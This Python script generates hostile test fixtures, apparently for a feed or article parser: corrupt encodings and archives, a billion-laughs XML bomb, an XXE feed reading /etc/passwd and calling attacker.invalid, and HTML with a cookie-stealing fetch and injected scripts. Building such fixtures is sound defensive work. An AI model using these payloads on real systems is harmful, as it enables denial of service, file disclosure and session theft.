#!/usr/bin/env python3
"""Writes the committed hostile files of this folder (see README.md). Deterministic: the same bytes every time."""
import gzip
import io
import random
import struct
import zipfile
import zlib

S = "The council met on Tuesday in Springfield and voted to repair the old bridge. "


def w(name, data):
    with open(name, "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode())


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def gzip_fixed(data):
    # A fixed modification time, so the bytes do not depend on when this runs.
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=0) as g:
        g.write(data)
    return out.getvalue()


w("empty.txt", b"")
w("whitespace-only.txt", "  \n\t\r\n   \u00a0\u3000 \n".encode())
w("bom-only.txt", b"\xef\xbb\xbf")
png = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
       + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))
w("photo.png", png)
w("photo-named-as-text.txt", png)
w("picture.jpg", bytes([0xFF, 0xD8, 0xFF, 0xE0, 0, 16]) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(range(256)) + bytes([0xFF, 0xD9]))
elf = (b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0)
       + bytes(random.Random(3).randrange(256) for _ in range(400)))
w("program.elf", elf)
pe = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\xb8" + b"\x00" * 43 + struct.pack("<I", 0x80)
      + b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
      + b"\x00" * 7 + b"PE\x00\x00\x4c\x01\x03\x00" + b"\x00" * 200)
w("setup.exe", pe)
pdf = (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
       b"3 0 obj\n<< /Type /Page /Parent 2 0 R /Contents 4 0 R >>\nendobj\n4 0 obj\n<< /Length 44 /Filter /FlateDecode >>\nstream\n"
       + zlib.compress(b"BT /F1 12 Tf 72 712 Td (The council met.) Tj ET") + b"\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
w("story.pdf", pdf)
buf = io.BytesIO()
with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
    z.writestr(zipfile.ZipInfo("article.txt", date_time=(2026, 1, 1, 0, 0, 0)), S * 20)
w("articles.zip", buf.getvalue())
w("nul-bytes.txt", b"\x00" * 4096)
r = random.Random(7)
w("random-bytes.bin", bytes(r.randrange(256) for _ in range(16384)))
w("invalid-utf8-continuation.txt", b"Some text about the council " + bytes([0x80, 0xBF, 0x80, 0xBF, 0x80]) + b" and more text.")
w("invalid-utf8-overlong.txt", b"path " + bytes([0xC0, 0xAF]) + b" etc passwd and the council met on Tuesday.")
w("utf16le-no-bom.txt", (S * 200).encode("utf-16-le"))
w("utf16be-no-bom.txt", (S * 200).encode("utf-16-be"))
w("truncated.json", b'{"title": "Bridge vote", "body": "The council met on Tuesday')
w("not-a-feed.xml", b'<?xml version="1.0"?><catalog><book id="1"><title>T</title></book></catalog>')
lol = "".join(f'  <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n' for i in range(1, 10))
w("billion-laughs.rss", '<?xml version="1.0"?>\n<!DOCTYPE rss [\n  <!ENTITY lol "lol">\n' + lol + ']>\n'
  '<rss version="2.0"><channel><title>Laughs</title>\n<item><title>&lol9;</title><description>The council met on Tuesday. &lol9;</description></item>\n</channel></rss>\n')
w("external-entity.rss", '<?xml version="1.0"?>\n<!DOCTYPE rss [\n  <!ENTITY passwd SYSTEM "file:///etc/passwd">\n  <!ENTITY remote SYSTEM "http://attacker.invalid/steal">\n]>\n'
  '<rss version="2.0"><channel><title>XXE</title>\n<item><title>Leak</title><description>The council met on Tuesday. &passwd; &remote;</description></item>\n</channel></rss>\n')
w("broken-lines.jsonl", '{"title": "t", "body": }\n' * 500)
w("scripts.html", """<!DOCTYPE html><html lang="en"><head><title>Bridge vote in Springfield</title>
<script>document.cookie = "stolen"; fetch("http://attacker.invalid/?c=" + document.cookie);</script>
<script src="http://attacker.invalid/evil.js"></script>
<style>body { background: url("javascript:alert(1)") }</style></head>
<body onload="alert('onload')"><nav><a href="javascript:alert(2)">Home</a></nav>
<article><h1>Bridge vote in Springfield</h1>
<p>""" + S * 4 + """</p><img src="x" onerror="alert(3)"><iframe src="http://attacker.invalid/frame"></iframe>
<p>""" + S * 3 + """<script>alert('inline');</script></p>
<svg><script>alert(4)</script></svg></article></body></html>
""")
w("deep-quotes.md", "# Title\n\n" + ">" * 10000 + " quoted text\n")
w("gzip-in-gzip-in-gzip.txt.gz", gzip_fixed(gzip_fixed(gzip_fixed(S.encode()))))
r = random.Random(5)
words = "council bridge mayor vote repair river city budget plan road school water harbour tram market street".split()
text = " ".join(r.choice(words) + ("." if r.random() < 0.1 else "") for _ in range(60000))
data = gzip_fixed(text.encode())
w("truncated.txt.gz", data[: len(data) // 2])
w("windows-1252.txt", "Le café — “quotes” and naïve résumés in Zürich. The council met on Tuesday in Springfield and voted to repair the old bridge.".encode("cp1252"))
w("right-to-left.txt", ("\u202eThe council met on Tuesday.\u202c Officials in \u200fCairo\u200f and \u2067القاهرة\u2069 said\u200b the\u200d plan\u2060 would\ufeff pass."
                         "\n\nשלום and مرحبا appeared \u061cin the \u200ereport about Springfield.").encode())
w("no-article.html", "<html><head><title></title><script>var x = 1;</script></head><body><nav><a href='/'>Home</a></nav><script>alert(1)</script></body></html>")
